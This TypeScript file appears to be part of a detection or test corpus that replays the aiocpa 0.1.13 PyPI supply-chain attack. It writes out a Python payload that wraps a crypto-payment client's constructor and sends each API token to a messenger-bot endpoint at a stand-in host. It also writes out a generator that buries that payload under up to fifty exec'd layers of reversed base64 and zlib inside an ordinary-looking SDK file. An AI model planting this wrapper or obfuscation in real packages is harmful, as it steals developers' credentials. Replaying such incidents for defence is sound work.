import { deflateSync } from 'node:zlib';
import type { FileMap } from '../support/make-wheel.ts';
import { base64 } from './encoders.ts';
import { fillerCode } from './filler.ts';
import { beforeAttack, type Draft, type Remote, type Replay, siteIn, textOf } from './incident.ts';
import { sdkLibrary } from './libraries/sdk.ts';
import { compressedTables } from './look-alikes/text.ts';
import { py, reversed } from './python-text.ts';

const PLAINTEXT = (c: Remote): string => py`
import urllib.request as _u, urllib.parse as _p
from cryptopay._client import CryptoPay as _CryptoPay
_init = _CryptoPay.__init__
def _wrapped(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    try:
        _text = "token=%s args=%r" % (getattr(self, "api_key", None), args)
        _u.urlopen("${c.url('/bot7000000001:AAHdq-example-token-not-a-real-one-0a1b2c/sendMessage')}", data=_p.urlencode({"chat_id": "-1002000000000", "text": _text}).encode(), timeout=5)
    except Exception:
        pass
_CryptoPay.__init__ = _wrapped
`;

/** One layer: reversed base64 of zlib, executed by a lambda. */
function layer(source: string): string {
  const text = reversed(base64(deflateSync(Buffer.from(source), { level: 9 })));
  return `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${text}'))`;
}

function layered(source: string, depth: number): string {
  return depth === 0 ? source : layered(layer(source), depth - 1);
}

function malicious(depth: number): (c: Remote) => Draft {
  return (c) => {
    const files: FileMap = {
      ...sdkLibrary({
        package: 'cryptopay',
        vendor: 'CryptoPay',
        base: 'https://pay.crypto-bot.example/api',
        resources: ['invoices', 'transfers', 'checks', 'balances'],
        version: '0.1.13',
      }),
      'cryptopay/utils/__init__.py': '',
      'cryptopay/utils/sync.py': `"""Run coroutines from synchronous code."""\nimport asyncio\n\n\ndef async_to_sync(coroutine):\n    return asyncio.run(coroutine)\n\n\n${fillerCode(90, 101)}`,
    };
    return {
      kind: 'wheel',
      name: 'aiocpa',
      version: '0.1.13',
      files: {
        ...files,
        'cryptopay/__init__.py': `${textOf(files, 'cryptopay/__init__.py')}\nfrom .utils import sync\n`,
      },
      sites: [siteIn(files, 'cryptopay/utils/sync.py', `${layered(PLAINTEXT(c), depth)}\n`)],
    };
  };
}

export const AIOCPA: Replay = {
  id: '07-aiocpa',
  title: 'aiocpa 0.1.13: fifty layers of zlib and base64, a messenger bot inside',
  source: 'https://blog.pypi.org/posts/2024-11-25-aiocpa-attack-analysis/',
  runs: 'import peels fifty layers and wraps the client constructor so that each API token is sent to a messenger bot',
  remote: 'https://api.messenger-bots.invalid',
  draft: malicious(50),
  predecessor: () => beforeAttack(malicious(1), '0.1.12'),
  lookAlikes: () => [compressedTables()],
};

export const AIOCPA_SHALLOW: Replay = {
  ...AIOCPA,
  id: '07b-aiocpa-shallow',
  title: 'aiocpa in four layers: the chain can be read to its end',
  draft: malicious(4),
};
